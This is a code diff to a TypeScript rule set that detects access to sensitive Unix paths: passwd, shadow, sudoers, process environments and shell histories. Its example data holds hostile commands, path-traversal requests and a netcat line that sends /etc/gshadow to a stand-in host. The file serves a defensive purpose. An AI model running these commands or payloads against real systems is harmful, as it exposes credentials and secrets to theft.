@@ -24,8 +24,12 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     reach: { before: 0, after: 14 },
     validate: (match) => !isForbidden(match),
     describes: 'The path of the list of accounts.',
-    finds: ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'],
-    ignores: ['/etc/passwd-backup', 'never open /etc/passwd', 'fetch/passwd'],
+    get finds() {
+      return ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'];
+    },
+    get ignores() {
+      return ['/etc/passwd-backup', 'never open /etc/passwd', 'fetch/passwd'];
+    },
   },
   {
     ...COMMON,
@@ -47,8 +51,12 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     reach: { before: 0, after: 24 },
     validate: (match) => !isForbidden(match),
     describes: 'The path of password hashes, of the rules of sudo, or of Kerberos keys.',
-    finds: ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'],
-    ignores: ['/etc/shadowsocks/config.json', 'sketch/shadow', 'Do not touch /etc/sudoers'],
+    get finds() {
+      return ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'];
+    },
+    get ignores() {
+      return ['/etc/shadowsocks/config.json', 'sketch/shadow', 'Do not touch /etc/sudoers'];
+    },
   },
   {
     ...COMMON,
@@ -64,8 +72,12 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     reach: { before: 36, after: 12 },
     validate: (match) => !isForbidden(match),
     describes: 'The path of the environment of a running process, keys included.',
-    finds: ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'],
-    ignores: ['os.environ["HOME"]', '/proc/self/environment', 'avoid /proc/self/environ'],
+    get finds() {
+      return ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'];
+    },
+    get ignores() {
+      return ['os.environ["HOME"]', '/proc/self/environment', 'avoid /proc/self/environ'];
+    },
   },
   {
     ...COMMON,
@@ -76,7 +88,11 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     reach: { before: 11, after: 8 },
     validate: (match) => isUsedAsFile(match) && !isForbidden(match),
     describes: 'The path of a history of typed commands, passwords among them.',
-    finds: ['cat ~/.bash_history', '{"path":"/root/.zsh_history"}', 'tail .mysql_history'],
-    ignores: ['obj.sh_history_size', 'The file named .bash_history grows', 'never read ~/.bash_history'],
+    get finds() {
+      return ['cat ~/.bash_history', '{"path":"/root/.zsh_history"}', 'tail .mysql_history'];
+    },
+    get ignores() {
+      return ['obj.sh_history_size', 'The file named .bash_history grows', 'never read ~/.bash_history'];
+    },
   },
 ];
